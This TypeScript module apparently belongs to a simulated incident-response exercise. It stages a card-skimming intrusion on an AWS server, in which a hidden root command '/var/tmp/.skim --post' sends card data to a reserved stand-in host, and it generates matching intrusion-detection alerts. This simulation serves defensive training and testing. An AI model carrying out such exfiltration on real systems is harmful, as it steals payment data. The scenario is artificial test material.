import { shortCalls, type ShortCaller } from "../adversary/short-calls.ts";
import { refusalOf, type Aws } from "../kit/aws.ts";
import { checkUnattended } from "../kit/automation.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

/** Documentation addresses (RFC 5737) and reserved names (RFC 2606): nobody's. */
const DROP = { ip: "203.0.113.133", port: 443, name: "cdn-assets.example" };
const SCANNERS = ["198.51.100.7", "198.51.100.91", "203.0.113.12"];

const SKIMMER: ShortCaller = {
  command: "/var/tmp/.skim --post",
  user: "root",
  server: DROP,
  label: "exfiltration",
  restarts: false,
};

/** When somebody begins to take card data, in seconds after the clock started. */
const BEGINS_SECONDS = 240;

/** What the system on one server has seen since it last wrote. */
interface Seen {
  transfers: number;
}

/**
 * The intruder, and the intrusion detection system on each server that sees what goes out.
 *
 * @param colleague who may read event history
 */
export function intrusion(stage: Stage, facts: Facts, colleague: Aws): Behaviour[] {
  stage.internet(DROP);
  const seen: Seen = { transfers: 0 };
  return [thief(stage, facts, seen, colleague), detection(facts, seen)];
}

/** Card data goes out, until the server does not run any more or nothing leaves it. */
function thief(stage: Stage, { instanceId }: Facts, seen: Seen, colleague: Aws): Behaviour {
  const call = shortCalls(stage.foothold(instanceId), SKIMMER);
  const what = `Card data goes from ${instanceId} to ${DROP.name}`;
  let ended = false;
  return {
    name: "exfiltration",
    everySeconds: 15,
    afterSeconds: BEGINS_SECONDS,
    async act() {
      const bytes = stage.chance.int(40_000, 90_000);
      const refusal = await call(bytes, 900);
      if (refusal === undefined) {
        seen.transfers++;
        stage.attempted({ attempt: "exfiltration", gotThrough: true, what, bytes });
        return;
      }
      stage.attempted({ attempt: "exfiltration", gotThrough: false, what, refusal });
      if (!ended) await checkUnattended(stage, colleague, instanceId);
      ended = true;
    },
  };
}

/** Every server writes what it saw into its own stream: mostly the rain of the Internet, which harms nobody. */
function detection({ alertLogGroup, groupName, instanceId }: Facts, seen: Seen): Behaviour {
  return {
    name: "ids",
    everySeconds: 20,
    async act(stage) {
      for (const server of await serversOf(stage, groupName, instanceId)) {
        const alerts = [
          { severity: "low", signature: "Port scan", source: stage.chance.pick(SCANNERS), instance: server },
        ];
        if (server === instanceId && seen.transfers)
          alerts.push({
            severity: "high",
            signature: `Card data in outbound transfer (${seen.transfers})`,
            source: DROP.ip,
            instance: server,
          });
        const written = await write(stage, alertLogGroup, server, alerts);
        if (written && server === instanceId) seen.transfers = 0;
      }
    },
  };
}

/** The fleet's servers, and the one that may have left it. */
async function serversOf({ platform }: Stage, groupName: string, also: string): Promise<string[]> {
  const { AutoScalingGroups = [] } = await platform.autoscaling.describeAutoScalingGroups({
    AutoScalingGroupNames: [groupName],
  });
  const members = (AutoScalingGroups[0]?.Instances ?? [])
    .filter((x) => x.LifecycleState === "InService")
    .map((x) => x.InstanceId!);
  return [...new Set([...members, also])];
}

/** False when the server does not run, or does not get there. */
async function write(
  stage: Stage,
  logGroupName: string,
  server: string,
  alerts: readonly object[],
): Promise<boolean> {
  const aws = await stage.foothold(server).software();
  if (!aws) return false;
  const stream = { logGroupName, logStreamName: server };
  const put = () =>
    aws.logs.putLogEvents({
      ...stream,
      logEvents: alerts.map((alert) => ({ timestamp: stage.now(), message: JSON.stringify(alert) })),
    });
  try {
    try {
      await put();
    } catch (error) {
      if (refusalOf(error) !== "ResourceNotFoundException") throw error;
      await aws.logs.createLogStream(stream);
      await put();
    }
    return true;
  } catch (error) {
    if (refusalOf(error) === undefined) throw error;
    return false;
  }
}
